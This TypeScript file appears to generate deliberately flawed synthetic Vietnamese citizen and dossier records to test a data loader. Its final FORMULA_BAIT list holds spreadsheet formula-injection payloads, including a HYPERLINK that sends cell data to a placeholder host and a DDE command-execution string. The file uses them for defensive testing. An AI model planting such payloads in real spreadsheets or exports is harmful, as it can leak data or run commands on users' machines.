/**
 * The defects real provincial data has, injected at known rates. A defect is either REJECTING
 * (the row must end in rejects with one specific code) or not (the row loads; dedupe and
 * reviewers deal with it). A row gets at most one rejecting defect, so its expected code is unique.
 */
import type { RejectCode } from "../mappings/reject-codes.ts"
import { cccd as decodeCccd } from "../mappings/field-decoders.ts"
import { composeVowel, foldAccents, vowelParts } from "../text/vietnamese.ts"
import { decodeLegacy, encodeTcvn3, encodeVni } from "../text/legacy-encodings.ts"
import type { Random } from "./random.ts"

/** Rates of each defect, per row of the kind it applies to. */
export const DIRT_RATES = {
  citizen: {
    reject: { INVALID_CCCD: 0.01, INVALID_DATE: 0.005, UNIT_UNKNOWN: 0.005, LEGACY_DECODE_FAILED: 0.004, MISSING_REQUIRED: 0.003 },
    noDiacritics: 0.03,
    nfd: 0.02,
    yearOnlyBirth: 0.02,
    dayMonthSwap: 0.01,
    cccdLostZeros: 0.02,
    cccdSpaces: 0.01,
    formulaBait: 0.005,
    /** Share of people who also appear in another province's system (moved), and in their own twice. */
    crossSource: 0.04,
    sameSourceDuplicate: 0.02,
    /** Share of cross-source copies whose name has a typo. */
    typoInCopy: 0.5
  },
  dossier: {
    reject: { INVALID_DATE: 0.004, UNIT_UNKNOWN: 0.004, MISSING_REQUIRED: 0.003 },
    applicantNoDiacritics: 0.02,
    formulaBait: 0.01,
    zeroCompletedDate: 0.05
  },
  civilStatus: {
    reject: { INVALID_DATE: 0.005, UNIT_UNKNOWN: 0.005, LEGACY_DECODE_FAILED: 0.005, MISSING_REQUIRED: 0.003 }
  },
  account: {
    reject: { INVALID_CCCD: 0.02 }
  }
} as const

/**
 * Draws at most one rejecting defect from a table of rates, among those the vendor can hold
 * (a real DATE column cannot hold 31/02, a table without legacy text cannot fail to decode).
 */
export const drawRejectingDefect = (
  random: Random,
  rates: Readonly<Partial<Record<RejectCode, number>>>,
  possible: ReadonlySet<RejectCode>
): RejectCode | undefined => {
  const x = random.next()
  let acc = 0
  for (const [code, rate] of Object.entries(rates) as [RejectCode, number][]) {
    acc += rate
    if (x < acc) return possible.has(code) ? code : undefined
  }
  return undefined
}

export const withoutDiacritics = (s: string): string => foldAccents(s)
export const toNfd = (s: string): string => s.normalize("NFD")

/** One keyboard slip in a name: adjacent letters swapped, a letter dropped or doubled, or a wrong tone. */
export const typo = (random: Random, name: string): string => {
  const chars = [...name]
  const letters = chars.map((c, i) => (c === " " ? -1 : i)).filter((i) => i >= 0)
  for (let attempt = 0; attempt < 8; attempt++) {
    const op = random.int(4)
    const i = random.pick(letters)
    const out = [...chars]
    if (op === 0) {
      const p = vowelParts(out[i]!)
      if (p === undefined) continue
      const tone = ((p.tone + 1 + random.int(5)) % 6) as 0 | 1 | 2 | 3 | 4 | 5
      out[i] = composeVowel(p.base, tone, p.upper)
    } else if (op === 1) {
      if (out[i + 1] === undefined || out[i + 1] === " ") continue
      const t = out[i]!
      out[i] = out[i + 1]!
      out[i + 1] = t
    } else if (op === 2) {
      if ((out[i - 1] ?? " ") === " " && (out[i + 1] ?? " ") === " ") continue
      out.splice(i, 1)
    } else out.splice(i, 0, out[i]!)
    const result = out.join("")
    if (result !== name) return result
  }
  return name + name.slice(-1)
}

/** A CCCD that fails the structural check in one of the ways real data does. */
export const invalidCccd = (random: Random, valid: string): string => {
  for (let attempt = 0; attempt < 10; attempt++) {
    const kind = random.int(4)
    const bad =
      kind === 0
        ? random.pick(["003", "009", "050", "099", "000"]) + valid.slice(3)
        : kind === 1
        ? valid.slice(0, 3) + random.pick(["7", "8", "9"]) + valid.slice(4)
        : kind === 2
        ? valid + random.digits(1)
        : valid.slice(0, 9)
    const d = decodeCccd(bad)
    if (!d.ok) return bad
  }
  return "012345"
}

/** A dd/mm/yyyy string of a date that does not exist, in a given year. */
export const impossibleDmy = (random: Random, year: number): string => {
  const nonLeap = year % 4 === 0 ? year + 1 : year
  return random.pick([
    `31/02/${year}`, `30/02/${year}`, `31/04/${year}`, `31/06/${year}`, `31/09/${year}`, `31/11/${year}`,
    `00/05/${year}`, `15/13/${year}`, `29/02/${nonLeap}`, `32/01/${year}`
  ])
}

/** A 5-digit commune code that is not in the catalog. */
export const unknownCommuneCode = (random: Random, known: ReadonlyMap<string, unknown>): string => {
  for (;;) {
    const c = `9${random.digits(4)}`
    if (!known.has(c)) return c
  }
}

/** Legacy bytes (one char per byte) of a text, and a broken variant that must fail to decode. */
export const legacyEncode = (encoding: "tcvn3" | "vni", s: string): string => (encoding === "tcvn3" ? encodeTcvn3(s) : encodeVni(s))

/**
 * The text encoded in the legacy encoding with a piece keyed in as UTF-8 bytes (what happens
 * when a Unicode keyboard meets an ABC/VNI column): bytes the encoding does not use.
 */
export const brokenLegacy = (random: Random, encoding: "tcvn3" | "vni", s: string): string => {
  const encoded = legacyEncode(encoding, s)
  // UTF-8 of "á" (C3 A1) breaks TCVN3; UTF-8 of "ễ" (E1 BB 85) breaks VNI.
  const utf8 = encoding === "tcvn3" ? "\u00c3\u00a1" : "\u00e1\u00bb\u0085"
  const at = random.int(encoded.length + 1)
  const broken = encoded.slice(0, at) + utf8 + encoded.slice(at)
  if (decodeLegacy(broken, encoding).ok) throw new Error(`internal: broken ${encoding} text still decodes`)
  return broken
}

const FORMULA_BAIT = [
  "=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"Xem kết quả\")",
  "=1+2",
  "+84 912 345 678",
  "-Đã trả kết quả qua bưu điện",
  "@SUM(A1:A9)",
  "=cmd|' /C calc'!A0"
]

/** A value that a spreadsheet would run as a formula if written unescaped. */
export const formulaBait = (random: Random): string => random.pick(FORMULA_BAIT)
